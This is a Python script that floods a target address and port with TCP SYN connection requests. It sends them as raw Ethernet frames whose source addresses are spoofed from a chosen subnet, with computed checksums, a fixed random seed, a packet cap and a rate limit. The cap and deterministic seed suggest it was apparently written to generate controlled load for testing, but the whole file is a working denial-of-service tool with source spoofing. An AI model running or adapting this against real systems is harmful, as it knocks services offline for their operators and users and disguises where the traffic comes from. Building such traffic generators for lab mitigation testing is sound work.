#!/usr/bin/env python3
"""A flood of connection requests from addresses that nobody has, of a known size.

    flood.py DEVICE GATEWAY-MAC SOURCE-NET ADDRESS PORT COUNT A-SECOND

The requests leave DEVICE as raw frames; their sources are the hosts of SOURCE-NET in turn, their ports and numbers
drawn from a constant seed. Prints `flooding` with the first one and `sent COUNT` after the last.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

SEED = 4987
SOURCES_MAX = 200
TICK_S = 0.01
COUNT_MAX = 100_000


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def request(source, destination, port, draw):
    """An IP packet with a SYN that has the options of an ordinary client."""
    options = struct.pack("!BBHBBBBBB", 2, 4, 1460, 4, 2, 1, 3, 3, 7) + b"\1\1"
    body = struct.pack("!HHIIBBHHH", draw.randrange(1024, 65536), port, draw.getrandbits(32), 0,
                       (20 + len(options)) << 2, 0x02, 64240, 0, 0) + options
    body += b"\0" * (len(body) % 2)
    pseudo = source.packed + destination.packed + struct.pack("!LL", len(body), 6)
    body = body[:16] + struct.pack("!H", checksum(pseudo + body)) + body[18:]
    if source.version == 6:
        return struct.pack("!LHBB", 6 << 28, len(body), 6, 64) + source.packed + destination.packed + body
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, 64, 6, 0)
    head += source.packed + destination.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def main(device, gateway, network, destination, port, count, rate):
    draw = random.Random(SEED)
    destination = ipaddress.ip_address(destination)
    first = ipaddress.ip_network(network).network_address + 1
    count, rate = min(int(count), COUNT_MAX), int(rate)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((device, 0))
        kind = 0x86DD if destination.version == 6 else 0x0800
        link = bytes.fromhex(gateway.replace(":", "")) + sock.getsockname()[4] + struct.pack("!H", kind)
        started, sent = time.monotonic(), 0
        print("flooding", flush=True)
        while sent < count:
            due = min(count, int((time.monotonic() - started) * rate) + 1)
            for number in range(sent, due):
                sock.send(link + request(first + number % SOURCES_MAX, destination, int(port), draw))
            sent = due
            time.sleep(TICK_S)
    print(f"sent {sent}", flush=True)


main(*sys.argv[1:8])
